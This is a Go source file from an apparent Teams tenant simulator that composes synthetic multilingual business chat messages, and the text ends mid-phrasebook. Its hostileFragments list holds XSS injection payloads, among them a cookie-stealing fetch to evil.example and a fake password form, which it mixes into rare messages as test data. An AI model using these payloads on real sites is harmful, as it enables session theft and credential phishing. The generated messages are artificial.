package tenantsim

import (
	"html"
	"math/rand/v2"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// contentSpec describes the message to compose.
type contentSpec struct {
	Lang     Lang        // the conversation's main language
	Kind     ChannelKind // where it is posted
	Customer *Customer
	Author   *User
	Others   []*User // other people in the conversation who may be @mentioned
	Root     bool    // a channel root post (may carry a Subject)
	Reply    bool    // a reply in a channel thread
}

// fileRef is a file attached by reference (SharePoint link); the caller
// assigns ids and URLs.
type fileRef struct{ Name string }

// content is a composed message.
type content struct {
	Subject    string     // only some channel root posts; "" otherwise
	HTML       string     // Teams-style body HTML
	Importance string     // "normal", "high" or "urgent"
	Mentions   []*User    // Mentions[i] is <at id="i">…</at> in HTML
	Files      []fileRef  // body holds <attachment id="{{file:i}}"></attachment> for each, in order
	Images     int        // body holds <img src="{{hosted:i}}" …> for i in [0,Images)
	Hostile    bool       // body carries hostile HTML
	Hashtags   []string   // tags used in the body, without '#', in order of appearance, no duplicates
	Text       string     // the body's visible text, one line per paragraph, line break or list item; Subject excluded
	Lang       Lang       // the language the message is written in
	Topics     []msgTopic // what the message is about, main topic first, no duplicates; none for acknowledgements, notices and small talk
}

// How often decorations occur, per mille of messages.
const (
	urgentPerMille      = 35  // 【紧急】 / [URGENT] prefix
	issueUrgentPerMille = 150 // the same, for fault reports
	highPerMille        = 30  // high importance without prefix
	hashtagPerMille     = 120
	mentionPerMille     = 150
	filePerMille        = 60 // one file, outside shared-data channels
	imagePerMille       = 25
	issueImagePerMille  = 100 // screenshots in fault reports
	linkPerMille        = 40
	casePerMille        = 150 // case number in payment and fault messages
	emojiPerMille       = 60  // chats and replies; a third of that elsewhere
	hostileOneIn        = 250
)

// compose builds one message. It is a pure function of r's state and s.
func compose(r *rand.Rand, s contentSpec) content {
	c := &composer{r: r, s: s, book: bookFor(messageLang(r, s.Lang))}
	c.f = newFillers(r, s.Customer, c.book)
	c.body()
	c.decorate()
	c.out.HTML, c.out.Text = c.render()
	c.out.Lang = c.book.Lang
	return c.out
}

// messageLang picks the language of one message in a conversation whose
// main language is l.
func messageLang(r *rand.Rand, l Lang) Lang {
	x := r.IntN(100)
	switch l {
	case LangEN:
		if x < 95 {
			return LangEN
		}
		return LangZH
	case LangFR:
		if x < 85 {
			return LangFR
		}
		return LangEN
	default:
		switch {
		case x < 88:
			return LangZH
		case x < 98:
			return LangEN
		}
		return LangFR
	}
}

// piece is an inline run of a message body: its HTML and visible text.
type piece struct{ html, text string }

// block is a paragraph (lines separated by <br>), a list (one item per
// line) or raw HTML outside any paragraph. Only open paragraphs take more
// inline text; label/value paragraphs are closed.
type block struct {
	list, raw, closed bool
	lines             [][]piece
}

// textPiece is plain text, escaped for HTML.
func textPiece(s string) piece { return piece{html.EscapeString(s), s} }

// composer holds the state of one compose call.
type composer struct {
	r        *rand.Rand
	s        contentSpec
	book     *phrasebook
	f        fillers
	topic    msgTopic
	caseable bool // the text is about a payment or a fault
	urgent   bool
	blocks   []block
	out      content
}

// chance reports true with probability perMille/1000.
func (c *composer) chance(perMille int) bool { return c.r.IntN(1000) < perMille }

// pick returns a random element of list with its placeholders filled.
func (c *composer) pick(list []string) string { return c.f.expand(list[c.r.IntN(len(list))]) }

// pickAt is pick that also returns the element's index; it draws the same
// random number.
func (c *composer) pickAt(list []string) (int, string) {
	i := c.r.IntN(len(list))
	return i, c.f.expand(list[i])
}

// about records that the message is about the topics ts. It draws no
// random numbers: ground truth only.
func (c *composer) about(ts ...msgTopic) {
	for _, t := range ts {
		if !slices.Contains(c.out.Topics, t) {
			c.out.Topics = append(c.out.Topics, t)
		}
	}
}

// pickInternal picks one of the colleagues' phrases and records what it is
// about (topics[i] for phrase i).
func (c *composer) pickInternal(list []string, topics [][]msgTopic) string {
	i, s := c.pickAt(list)
	c.about(topics[i]...)
	return s
}

// phrases returns the phrases of the current topic.
func (c *composer) phrases() *topicPhrases { return &c.book.Topics[c.topic] }

// setTopic makes t the message's topic.
func (c *composer) setTopic(t msgTopic) {
	c.topic = t
	c.caseable = t == topicPayment || t == topicFault
}

// randomTopic draws a topic by topicWeights.
func (c *composer) randomTopic() msgTopic {
	total := 0
	for _, w := range topicWeights {
		total += w
	}
	x := c.r.IntN(total)
	for t, w := range topicWeights {
		if x < w {
			return msgTopic(t)
		}
		x -= w
	}
	return topicPayment
}

// para appends a paragraph of sentences.
func (c *composer) para(sentences ...string) {
	var line []piece
	for i, s := range sentences {
		if i > 0 && c.book.Sep != "" {
			line = append(line, textPiece(c.book.Sep))
		}
		line = append(line, textPiece(s))
	}
	c.blocks = append(c.blocks, block{lines: [][]piece{line}})
}

// list appends a bulleted list.
func (c *composer) list(items []string) {
	b := block{list: true}
	for _, it := range items {
		b.lines = append(b.lines, []piece{textPiece(c.f.expand(it))})
	}
	c.blocks = append(c.blocks, b)
}

// inline appends pieces to the end of the last paragraph (starting a new
// one after a list or closed paragraph), separated from existing text by sep.
func (c *composer) inline(sep string, ps ...piece) {
	if n := len(c.blocks); n == 0 || c.blocks[n-1].list || c.blocks[n-1].raw || c.blocks[n-1].closed {
		c.blocks = append(c.blocks, block{lines: [][]piece{nil}})
	}
	b := &c.blocks[len(c.blocks)-1]
	line := &b.lines[len(b.lines)-1]
	if len(*line) > 0 && sep != "" {
		*line = append(*line, textPiece(sep))
	}
	*line = append(*line, ps...)
}

// subject gives a channel root post a subject with the given chance and
// reports whether it did.
func (c *composer) subject(perMille int, subjects []string) bool {
	if c.s.Root && c.s.Kind != KindChat && len(subjects) > 0 && c.chance(perMille) {
		c.out.Subject = c.pick(subjects)
		return true
	}
	return false
}

// body writes the message's main text, shaped by the channel kind.
func (c *composer) body() {
	c.setTopic(c.randomTopic())
	switch {
	case c.s.Reply:
		c.reply()
	case c.s.Kind == KindAnnouncements:
		c.announcement()
	case c.s.Kind == KindIssues:
		c.issue()
	case c.s.Kind == KindQuestions:
		c.question()
	case c.s.Kind == KindSharedData:
		c.shareFiles()
	case c.s.Kind == KindInternal:
		c.internal()
	default:
		c.chat()
	}
	if c.caseable && c.s.Customer != nil && len(c.s.Customer.Cases) > 0 && c.chance(casePerMille) {
		line := &c.blocks[0].lines[0]
		if c.book.Sep != "" {
			*line = append(*line, textPiece(c.book.Sep))
		}
		*line = append(*line, textPiece(c.pick(c.book.CaseNotes)))
	}
}

// chat writes one or two conversational sentences; general channel posts
// are the same with an occasional subject.
func (c *composer) chat() {
	p := c.phrases()
	if c.subject(100, p.Subjects) {
		c.about(c.topic)
	}
	switch x := c.r.IntN(100); {
	case x < 25 && !c.s.Root:
		c.caseable = false
		c.para(c.pick(c.book.Acks))
		return
	case x < 50:
		if c.r.IntN(3) == 0 {
			c.para(c.pick(p.Say), c.pick(p.Ask))
		} else {
			c.para(c.pick(p.Ask))
		}
	default:
		if c.r.IntN(5) == 0 {
			c.para(c.pick(p.Say), c.pick(p.Answer))
		} else {
			c.para(c.pick(p.Say))
		}
	}
	c.about(c.topic)
}

// reply writes a short answer or acknowledgement in a thread.
func (c *composer) reply() {
	answer := 50
	switch c.s.Kind {
	case KindAnnouncements:
		answer = 15
	case KindQuestions:
		answer = 75
	case KindIssues:
		c.setTopic(topicFault)
		answer = 75
	case KindSharedData:
		if c.r.IntN(4) == 0 {
			c.para(c.pick(c.book.Share))
			c.attach(1)
			return
		}
		answer = 30
	case KindInternal:
		if c.r.IntN(10) < 7 {
			c.caseable = false
			c.para(c.pickInternal(c.book.Internal.Answer, internalTopics.Answer))
			return
		}
	}
	if c.r.IntN(100) < answer {
		c.para(c.pick(c.phrases().Answer))
		c.about(c.topic)
		return
	}
	c.caseable = false
	c.para(c.pick(c.book.Acks))
}

// question writes a question, sometimes with context first.
func (c *composer) question() {
	p := c.phrases()
	c.subject(100, p.Subjects)
	c.about(c.topic)
	if c.r.IntN(2) == 0 {
		c.para(c.pick(p.Say), c.pick(p.Ask))
		return
	}
	c.para(c.pick(p.Ask))
}

// internal writes colleagues' talk about the customer.
func (c *composer) internal() {
	if c.r.IntN(10) < 3 {
		c.chat()
		return
	}
	c.caseable = false
	if c.subject(50, c.book.Internal.Subjects) {
		c.about(internalTopics.Subjects...)
	}
	in := &c.book.Internal
	if c.r.IntN(10) < 3 {
		c.para(c.pickInternal(in.Say, internalTopics.Say), c.pickInternal(in.Ask, internalTopics.Ask))
		return
	}
	c.para(c.pickInternal(in.Say, internalTopics.Say))
}

// shareFiles posts files with a line about them.
func (c *composer) shareFiles() {
	p := c.phrases()
	if c.subject(150, p.Subjects) {
		c.about(c.topic)
	}
	files := 0
	if c.r.IntN(10) < 9 {
		files = 1 + c.r.IntN(2)
	}
	switch {
	case files == 0:
		c.para(c.pick(p.Say))
		c.about(c.topic)
	case c.r.IntN(10) < 4:
		c.para(c.pick(p.Say), c.pick(c.book.Share))
		c.about(c.topic)
	default:
		c.para(c.pick(c.book.Share))
	}
	c.attach(files)
}

// attach adds n distinct files of the current topic.
func (c *composer) attach(n int) {
	files := c.phrases().Files
	first := c.r.IntN(len(files))
	for i := range min(n, len(files)) {
		name := strings.ReplaceAll(c.f.expand(files[(first+i)%len(files)]), " ", "_")
		c.out.Files = append(c.out.Files, fileRef{name})
		c.about(c.topic)
	}
}

// issue writes a fault report in the 🐞 channel.
func (c *composer) issue() {
	c.setTopic(topicFault)
	c.about(topicFault)
	p := c.phrases()
	c.urgent = c.chance(issueUrgentPerMille)
	c.subject(350, p.Subjects)
	c.para(c.pick(p.Say))
	if c.r.IntN(10) < 2 {
		return
	}
	form := &c.book.Issue
	values := [4]string{c.f.code, c.f.date + " " + c.f.time, c.f.expand(form.Impact), form.Severity[c.r.IntN(len(form.Severity))]}
	b := block{closed: true}
	for i, label := range form.Labels {
		b.lines = append(b.lines, []piece{{"<strong>" + html.EscapeString(label) + "</strong>", label}, textPiece(c.book.Colon + values[i])})
	}
	c.blocks = append(c.blocks, b)
	if c.r.IntN(10) < 4 {
		c.para(form.StepsLead)
		c.list(form.Steps)
	}
}

// announcement writes a notice: maintenance, release or holiday schedule.
func (c *composer) announcement() {
	if c.r.IntN(10) == 0 {
		c.setTopic([]msgTopic{topicTraining, topicMeeting}[c.r.IntN(2)])
		c.chat()
		return
	}
	c.caseable = false
	n := &c.book.Notices[c.r.IntN(len(c.book.Notices))]
	c.subject(750, []string{n.Subject})
	c.para(c.f.expand(n.Intro))
	if len(n.Details) > 0 {
		b := block{closed: true}
		for _, d := range n.Details {
			b.lines = append(b.lines, []piece{{"<strong>" + html.EscapeString(d[0]) + "</strong>", d[0]}, textPiece(c.book.Colon + c.f.expand(d[1]))})
		}
		c.blocks = append(c.blocks, b)
	}
	if len(n.Bullets) > 0 {
		c.list(n.Bullets)
	}
	c.para(c.f.expand(n.Outro))
}

// decorate adds what any message may carry: files, links, emoji, hashtags,
// hostile HTML, images, urgency and mentions.
func (c *composer) decorate() {
	if c.s.Kind != KindSharedData && len(c.out.Files) == 0 && c.chance(filePerMille) {
		c.attach(1)
	}
	if c.chance(linkPerMille) {
		c.link()
	}
	emoji := emojiPerMille / 3
	if c.s.Kind == KindChat || c.s.Reply {
		emoji = emojiPerMille
	}
	if c.chance(emoji) {
		c.emoji()
	}
	if c.chance(hashtagPerMille) {
		c.hashtags()
	}
	if c.r.IntN(hostileOneIn) == 0 {
		c.hostile()
	}
	images := imagePerMille
	if c.s.Kind == KindIssues && !c.s.Reply {
		images = issueImagePerMille
	}
	if c.chance(images) {
		c.out.Images = 1
		w := []int{250, 320, 400, 480}[c.r.IntN(4)]
		h := 150 + 10*c.r.IntN(22)
		c.blocks = append(c.blocks, block{lines: [][]piece{{{`<img src="{{hosted:0}}" alt="image" width="` +
			strconv.Itoa(w) + `" height="` + strconv.Itoa(h) + `" style="vertical-align:bottom">`, ""}}}})
	}
	c.importance()
	c.mentions()
}

// importance sets urgency; urgent messages start with the language's prefix.
func (c *composer) importance() {
	c.out.Importance = "normal"
	if !c.urgent {
		c.urgent = c.chance(urgentPerMille)
	}
	switch {
	case c.urgent:
		c.out.Importance = "urgent"
		if c.r.IntN(5) < 2 {
			c.out.Importance = "high"
		}
		c.prepend(textPiece(c.book.Urgent))
	case c.chance(highPerMille):
		c.out.Importance = "high"
	}
}

// prepend puts pieces at the start of the first paragraph.
func (c *composer) prepend(ps ...piece) {
	line := &c.blocks[0].lines[0]
	*line = append(ps, *line...)
}

// mentions @mentions one or two of the other people at the start of the
// message (after any urgency prefix).
func (c *composer) mentions() {
	var cands []*User
	for _, u := range c.s.Others {
		if u != nil && u != c.s.Author && u.DisplayName != "" && (c.s.Author == nil || u.ID != c.s.Author.ID) {
			cands = append(cands, u)
		}
	}
	if len(cands) == 0 || !c.chance(mentionPerMille) {
		return
	}
	i := c.r.IntN(len(cands))
	c.out.Mentions = append(c.out.Mentions, cands[i])
	if len(cands) > 1 && c.r.IntN(4) == 0 {
		j := (i + 1 + c.r.IntN(len(cands)-1)) % len(cands)
		c.out.Mentions = append(c.out.Mentions, cands[j])
	}
	var ps []piece
	for k, u := range c.out.Mentions {
		name := html.EscapeString(u.DisplayName)
		ps = append(ps, piece{`<at id="` + strconv.Itoa(k) + `">` + name + `</at>`, u.DisplayName}, textPiece(" "))
	}
	line := &c.blocks[0].lines[0]
	at := 0
	if c.urgent {
		at = 1
	}
	*line = append((*line)[:at:at], append(ps, (*line)[at:]...)...)
}

// link adds a link to documentation, the team's SharePoint site or the
// customer's web site.
func (c *composer) link() {
	b := c.book
	label, href, title := b.LinkLabels[0], "https://learn.microsoft.com/"+b.Locale+"/microsoftteams/teams-channels-overview", b.DocsTitle
	cust := c.s.Customer
	switch x := c.r.IntN(3); {
	case x == 1 && cust != nil:
		label = b.LinkLabels[1]
		href = "https://" + c.homeTenant() + ".sharepoint.com/sites/" + url.PathEscape(strings.ReplaceAll(cust.Short, " ", "")) + "/Shared%20Documents/General"
		title = label
	case x == 2 && cust != nil:
		label, href, title = c.f.short, "https://www."+cust.Domain+"/", c.f.short
	}
	c.inline(b.Sep, textPiece(b.LinkLead), piece{`<a href="` + html.EscapeString(href) + `" title="` +
		html.EscapeString(title) + `">` + html.EscapeString(label) + `</a>`, label})
}

// homeTenant is the home tenant's name, from a colleague's address.
func (c *composer) homeTenant() string {
	for _, u := range append([]*User{c.s.Author}, c.s.Others...) {
		if u == nil || u.IsGuest() {
			continue
		}
		if _, dom, ok := strings.Cut(u.Mail, "@"); ok {
			if name, _, _ := strings.Cut(dom, "."); name != "" {
				return name
			}
		}
	}
	return "contoso"
}

// contentEmoji are the emoji messages use: Teams id and character.
var contentEmoji = [4][2]string{{"smile", "🙂"}, {"like", "👍"}, {"laugh", "😄"}, {"heart", "❤️"}}

// emoji ends the message with an emoji.
func (c *composer) emoji() {
	i := c.r.IntN(len(contentEmoji))
	e := contentEmoji[i]
	c.inline(c.book.Sep, piece{`<emoji id="` + e[0] + `" alt="` + e[1] + `" title="` + html.EscapeString(c.book.EmojiTitles[i]) + `"></emoji>`, e[1]})
}

// hashtags ends the message with one or two topic tags.
func (c *composer) hashtags() {
	tags := c.book.Tags
	first := c.phrases().Tag
	if first == "" {
		first = tags[c.r.IntN(len(tags))]
	}
	c.out.Hashtags = []string{first}
	if c.r.IntN(3) == 0 {
		if t := tags[c.r.IntN(len(tags))]; t != first {
			c.out.Hashtags = append(c.out.Hashtags, t)
		}
	}
	for _, t := range c.out.Hashtags {
		c.inline(" ", textPiece("#"+t))
		if tt, ok := tagTopics[t]; ok {
			c.about(tt)
		}
	}
}

// hostileFragment is an injection attempt; {label} is replaced by one of
// the language's bait labels.
type hostileFragment struct {
	html  string
	label int  // index into phrasebook.Bait, -1 for none
	block bool // placed outside paragraphs
}

// hostileFragments are the injection attempts hostile messages carry.
var hostileFragments = []hostileFragment{
	{`<script>alert('x')</script>`, -1, false},
	{`<img src="x" onerror="alert(1)">`, -1, false},
	{`<a href="javascript:alert(document.cookie)">{label}</a>`, 0, false},
	{`<svg onload="fetch('https://evil.example/'+document.cookie)"></svg>`, -1, false},
	{`<iframe src="https://evil.example"></iframe>`, -1, false},
	{`<a href="JaVaScRiPt:alert(1)">{label}</a>`, 1, false},
	{`<div style="background:url(javascript:alert(1))">{label}</div>`, 2, true},
	{`<form action="https://evil.example">{label}<input name="pwd" type="password"></form>`, 3, true},
}

// hostile mixes an injection attempt into the message.
func (c *composer) hostile() {
	c.out.Hostile = true
	h := hostileFragments[c.r.IntN(len(hostileFragments))]
	label := ""
	if h.label >= 0 {
		label = c.book.Bait[h.label]
	}
	p := piece{strings.ReplaceAll(h.html, "{label}", html.EscapeString(label)), label}
	if h.block {
		c.blocks = append(c.blocks, block{raw: true, lines: [][]piece{{p}}})
		return
	}
	c.inline(c.book.Sep, p)
}

// render produces the body HTML and its visible text.
func (c *composer) render() (string, string) {
	var h strings.Builder
	var text []string
	line := func(ps []piece) {
		var t strings.Builder
		for _, p := range ps {
			h.WriteString(p.html)
			t.WriteString(p.text)
		}
		if s := strings.TrimSpace(t.String()); s != "" {
			text = append(text, s)
		}
	}
	for _, b := range c.blocks {
		switch {
		case b.raw:
			line(b.lines[0])
		case b.list:
			h.WriteString("<ul>")
			for _, l := range b.lines {
				h.WriteString("<li>")
				line(l)
				h.WriteString("</li>")
			}
			h.WriteString("</ul>")
		default:
			h.WriteString("<p>")
			for i, l := range b.lines {
				if i > 0 {
					h.WriteString("<br>")
				}
				line(l)
			}
			h.WriteString("</p>")
		}
	}
	for i := range c.out.Files {
		h.WriteString(`<attachment id="{{file:` + strconv.Itoa(i) + `}}"></attachment>`)
	}
	return h.String(), strings.Join(text, "\n")
}

// fillers are the values of one message's template placeholders.
type fillers struct {
	short, product, city, kase, code, date, amount, n, n4, time, version, pct, q, year, month, mm string
}

// newFillers draws a message's placeholder values. Names of a Chinese
// customer are romanized in messages in other languages, and products are
// named generically in messages not in the customer's language.
func newFillers(r *rand.Rand, cust *Customer, b *phrasebook) fillers {
	f := fillers{short: b.CustomerFallback, product: b.ProductFallback, city: b.CityFallback}
	if cust != nil {
		f.short, f.city = cust.Short, cust.City
		if b.Lang == LangZH || b.Lang == cust.Lang {
			f.product = cust.Product
		}
		if b.Lang != LangZH && hasHan(f.short) {
			f.short = latinCompanyName(cust.Domain)
		}
		if b.Lang != LangZH && hasHan(f.city) {
			f.city = cityPinyin[f.city]
			if f.city == "" {
				f.city = latinCompanyName(cust.Domain)
			}
		}
		if len(cust.Cases) > 0 {
			f.kase = cust.Cases[r.IntN(len(cust.Cases))]
		}
	}
	month, day := 1+r.IntN(12), 1+r.IntN(28)
	f.month, f.mm = b.Months[month-1], twoDigits(month)
	switch b.Lang {
	case LangZH:
		f.date = strconv.Itoa(month) + "月" + strconv.Itoa(day) + "日"
	case LangFR:
		d := strconv.Itoa(day)
		if day == 1 {
			d = "1er"
		}
		f.date = d + " " + f.month
	default:
		f.date = strconv.Itoa(day) + " " + f.month
	}
	hour, minute := 8+r.IntN(11), 30*r.IntN(2)
	f.time = strconv.Itoa(hour) + ":" + twoDigits(minute)
	if b.Lang == LangFR {
		f.time = strconv.Itoa(hour) + " h"
		if minute > 0 {
			f.time += " " + twoDigits(minute)
		}
	}
	f.amount = formatAmount(100*(80+r.IntN(4720)), cust, b.Lang)
	f.code = "E-" + strconv.Itoa(1000+r.IntN(9000))
	f.n, f.n4 = strconv.Itoa(2+r.IntN(11)), strconv.Itoa(1000+r.IntN(9000))
	f.version = "v" + strconv.Itoa(2+r.IntN(4)) + "." + strconv.Itoa(r.IntN(10)) + "." + strconv.Itoa(r.IntN(20))
	f.pct = strconv.Itoa(5 * (2 + r.IntN(9)))
	f.q, f.year = strconv.Itoa(1+r.IntN(4)), strconv.Itoa(2025+r.IntN(2))
	return f
}

// twoDigits formats 0-99 with a leading zero.
func twoDigits(n int) string {
	if n < 10 {
		return "0" + strconv.Itoa(n)
	}
	return strconv.Itoa(n)
}

// formatAmount writes a sum in the customer's currency, the way the
// message's language writes numbers.
func formatAmount(n int, cust *Customer, l Lang) string {
	sym := "¥"
	if cust != nil {
		switch cust.Lang {
		case LangEN:
			sym = "$"
			if strings.HasSuffix(cust.Domain, ".uk") {
				sym = "£"
			}
		case LangFR:
			sym = "€"
		}
	}
	if l == LangFR {
		return groupDigits(n, " ") + " " + sym
	}
	return sym + groupDigits(n, ",")
}

// groupDigits writes n with sep between groups of three digits.
func groupDigits(n int, sep string) string {
	s := strconv.Itoa(n)
	for i := len(s) - 3; i > 0; i -= 3 {
		s = s[:i] + sep + s[i:]
	}
	return s
}

// expand fills the {placeholders} of a template.
func (f *fillers) expand(tpl string) string {
	var b strings.Builder
	for {
		i := strings.IndexByte(tpl, '{')
		j := strings.IndexByte(tpl[max(i, 0):], '}')
		if i < 0 || j < 0 {
			break
		}
		b.WriteString(tpl[:i])
		b.WriteString(f.value(tpl[i+1 : i+j]))
		tpl = tpl[i+j+1:]
	}
	b.WriteString(tpl)
	return b.String()
}

// value is the filler for one placeholder name.
func (f *fillers) value(key string) string {
	switch key {
	case "short":
		return f.short
	case "product":
		return f.product
	case "city":
		return f.city
	case "case":
		return f.kase
	case "code":
		return f.code
	case "date":
		return f.date
	case "amount":
		return f.amount
	case "n":
		return f.n
	case "n4":
		return f.n4
	case "time":
		return f.time
	case "version":
		return f.version
	case "pct":
		return f.pct
	case "q":
		return f.q
	case "year":
		return f.year
	case "month":
		return f.month
	case "mm":
		return f.mm
	}
	panic("tenantsim: unknown placeholder {" + key + "}")
}

// msgTopic is what a message is about.
type msgTopic int

// Message topics.
const (
	topicPayment msgTopic = iota
	topicContract
	topicFault
	topicDelivery
	topicTraining
	topicRequirement
	topicMeeting
	topicCount
)

// topicWeights are the topics' relative frequencies.
var topicWeights = [topicCount]int{20, 12, 16, 16, 8, 10, 18}

// topicNames name the topics in Message.Topics.
var topicNames = [topicCount]string{"payment", "contract", "fault", "delivery", "training", "requirement", "meeting"}

// tagTopics says what each hashtag of the phrasebooks is about.
var tagTopics = map[string]msgTopic{
	"付款": topicPayment, "发票": topicPayment, "payment": topicPayment, "invoice": topicPayment, "paiement": topicPayment, "facture": topicPayment,
	"合同": topicContract, "contract": topicContract, "contrat": topicContract,
	"技术故障": topicFault, "outage": topicFault, "panne": topicFault,
	"交付": topicDelivery, "delivery": topicDelivery, "livraison": topicDelivery,
	"培训": topicTraining, "training": topicTraining, "formation": topicTraining,
	"需求": topicRequirement,
}

// internalTopics says what the colleagues' phrases (phrasebook.Internal)
// are about; element i is for phrase i, which means the same in every
// language. Renewal talk, prices and quotes count as contract.
var internalTopics = struct {
	Say, Ask, Answer [][]msgTopic
	Subjects         []msgTopic
}{
	Say: [][]msgTopic{
		{topicPayment, topicContract}, // late paying, renewal at risk
		nil,                           // new procurement contact
		{topicContract},               // another discount, competitor quote
		{topicFault},                  // the issue has lasted three days
		{topicDelivery},               // last delivery delay
		nil,                           // risk list
	},
	Ask: [][]msgTopic{
		{topicContract}, // renewal progress
		{topicPayment},  // payment terms
		{topicContract}, // special pricing
		nil,             // escalate the complaint
	},
	Answer: [][]msgTopic{
		{topicPayment},  // terms are 60 days
		{topicContract}, // renewal still open, price
		{topicContract}, // competitor quote attached
		nil,             // talk to their IT lead
		nil,             // escalation email
	},
	Subjects: []msgTopic{topicContract}, // renewal risk, special pricing
}

// topicPhrases are one topic's phrases in one language. Templates may use
// {short} {product} {city} {case} {code} {date} {amount} {n} {n4} {time}
// {version} {pct} {q} {year} {month} {mm}.
type topicPhrases struct {
	Tag              string   // the topic's hashtag, "" for none
	Say, Ask, Answer []string // statements, questions, answers
	Subjects, Files  []string // root post subjects, attachment names
}

// notice is an announcement: intro, "label: value" details, bullets, outro.
type notice struct {
	Subject, Intro string
	Details        [][2]string
	Bullets        []string
	Outro          string
}

// issueForm is the structure of a fault report.
type issueForm struct {
	Labels    [4]string // error code, occurred, impact, severity
	Impact    string
	Severity  []string
	StepsLead string
	Steps     []string
}

// phrasebook is everything written in one language.
type phrasebook struct {
	Lang             Lang
	Locale           string // learn.microsoft.com locale
	Sep, Colon       string // between sentences; after a label
	Urgent           string // prefix of urgent messages
	Months           [12]string
	Topics           [topicCount]topicPhrases
	Internal         topicPhrases // colleagues among themselves
	Acks, Share      []string     // acknowledgements; lines that share files
	CaseNotes        []string
	Notices          []notice
	Issue            issueForm
	Tags             []string // all hashtags
	LinkLead         string
	LinkLabels       [2]string // documentation, shared folder
	DocsTitle        string
	Bait             [4]string // link and form labels of hostile fragments
	EmojiTitles      [4]string // titles of contentEmoji
	CustomerFallback string
	ProductFallback  string
	CityFallback     string
}

// bookFor returns the phrasebook of a language.
func bookFor(l Lang) *phrasebook {
	switch l {
	case LangEN:
		return &enBook
	case LangFR:
		return &frBook
	}
	return &zhBook
}

// zhBook is written in Chinese.
var zhBook = phrasebook{
	Lang: LangZH, Locale: "zh-cn", Sep: "", Colon: "：", Urgent: "【紧急】",
	Months: [12]string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12"},
	Topics: [topicCount]topicPhrases{
		topicPayment: {
			Tag: "付款",
			Say: []string{"{short}第二期付款已经提交财务审批了，预计{date}前到账。", "本月对账单核对完了，差额{amount}主要是运费和上月的退货。",
				"发票已经开好了，增值税专票明天寄出，快递单号稍后发群里。", "第三期款{amount}还没收到，麻烦帮忙问一下财务那边的进度。",
				"回款计划更新了一下，{date}前需要收回{amount}。", "上个月的发票抬头写错了，需要作废重开，麻烦把开票信息再发一次。"},
			Ask: []string{"请问第二期付款大概什么时候能安排？", "发票开专票还是普票？", "对账单里{amount}这笔对应的是哪个订单？",
				"付款要走哪些审批流程？我们这边好提前准备材料。"},
			Answer: []string{"已经在走付款流程了，预计本周内完成。", "开专票，开票信息按合同上的来就行。",
				"这笔是{month}月的补货订单，明细在对账单第二页。", "财务确认已经付款了，回单稍后发您。"},
			Subjects: []string{"第二期付款安排", "{month}月对账单确认"},
			Files:    []string{"{short}_{year}Q{q}_对账单.xlsx", "{year}年{month}月对账单.xlsx", "付款申请单_{short}.pdf", "发票清单_{year}{mm}.xlsx"},
		},
		topicContract: {
			Tag: "合同",
			Say: []string{"{product}的年度续约合同初稿已经发给法务了，预计下周给反馈。", "报价单更新了，新增{n}个用户许可，总价{amount}。",
				"客户法务对合同第七条验收标准的表述提了修改意见。", "续约折扣最多能给到{pct}%，再低需要总监审批。", "补充协议已经盖章，扫描件放在共享文件夹里了。"},
			Ask: []string{"续约合同什么时候能走完盖章流程？", "这份报价单的有效期是多久？", "合同里的维保条款能不能延长到三年？",
				"如果中途增加用户数，价格怎么算？"},
			Answer: []string{"报价有效期30天，过期需要重新核价。", "盖章流程在走了，预计{date}寄出原件。",
				"维保可以延长，不过需要单独签一份补充协议。", "按剩余月份折算，具体我让商务出个报价。"},
			Subjects: []string{"{year}年度续约合同", "报价单更新"},
			Files:    []string{"{short}_报价单_v{n}.pdf", "{short}_年度服务合同_{year}.docx", "补充协议_{short}.pdf"},
		},
		topicFault: {
			Tag: "技术故障",
			Say: []string{"{city}工厂的{product}从早上开始登录失败，提示错误码 {code}。", "三号产线设备报警，网关已经{n}分钟没有上报数据了。",
				"系统宕机了大概{n}分钟，现在已经恢复，具体原因还在排查。", "报表导出一直转圈，后台日志里是 {code} 超时。",
				"冷库温度告警推送有延迟，值班人员没及时收到短信。"},
			Ask: []string{"错误码 {code} 是什么意思？需要我们重启服务吗？", "现在系统能正常登录了吗？", "告警阈值在哪里修改？",
				"这个问题有没有临时的规避办法？"},
			Answer: []string{"原因已经定位到了，是证书过期导致的，今晚更新。", "我们远程看了一下，重启网关服务后数据恢复上报了。",
				"问题已经转给二线工程师，{time}前给您回复。", "麻烦把截图和日志发一下，我们这边复现看看。", "补丁已经打上了，请再试一下。"},
			Subjects: []string{"【故障】{product}运行异常", "错误码 {code} 排查"},
			Files:    []string{"故障日志_{code}.csv", "故障分析报告_{short}.docx"},
		},
		topicDelivery: {
			Tag: "交付",
			Say: []string{"第二批设备已经从仓库发出，预计{date}到{city}。", "物流那边说高速封路了，到货可能要延期两天。",
				"现场验收安排在{date}，需要贵司提供叉车和对接人。", "{n}台网关已经签收，还有一台在途。",
				"到货清单和装箱单核对过了，少了两根电源线，已经安排补发。"},
			Ask: []string{"这批货能不能在{date}之前送到？", "验收需要准备哪些资料？", "物流单号能发我一下吗？", "送货是直接到{city}仓库还是到工厂？"},
			Answer: []string{"单号已经发到您邮箱了，走的顺丰。", "可以，我跟物流确认一下最早的送货时间。",
				"验收需要到货清单、安装记录和测试报告，模板我发您。", "直接送到工厂收货口，司机到之前会电话联系。"},
			Subjects: []string{"第二批设备发货安排", "现场验收计划"},
			Files:    []string{"到货清单_{short}.xlsx", "验收报告_{short}_{year}.docx", "发货计划_{year}{mm}.xlsx"},
		},
		topicTraining: {
			Tag: "培训",
			Say: []string{"{product}的操作培训定在{date}下午，线上 Teams 会议。", "培训视频已经上传到共享文件夹，新同事可以先看一下。",
				"管理员培训需要{n}个名额，麻烦报一下参加人员名单。"},
			Ask:      []string{"培训能不能安排在{city}现场？", "有没有操作手册可以先发给我们？", "这次培训有录屏吗？"},
			Answer:   []string{"有的，会后我把录屏链接发群里。", "现场培训可以安排，需要提前一周确认。", "手册在附件里，第三章是日常操作。"},
			Subjects: []string{"{product}操作培训安排"},
			Files:    []string{"{short}_操作手册.pdf", "培训课件_{short}.pptx"},
		},
		topicRequirement: {
			Tag: "需求",
			Say: []string{"{short}提了一个新需求：希望报表能按班组导出。", "移动端审批的需求产品经理评估过了，要排到下个版本。",
				"需求文档已经更新到第{n}版，主要改了接口部分。"},
			Ask:      []string{"这个需求本季度能上线吗？", "定制开发需要额外收费吗？", "接口文档有最新版本吗？"},
			Answer:   []string{"评估下来大概需要{n}个人天，我先出个方案。", "这个属于标准功能，配置一下就可以。", "接口文档已经更新，在共享数据频道里。"},
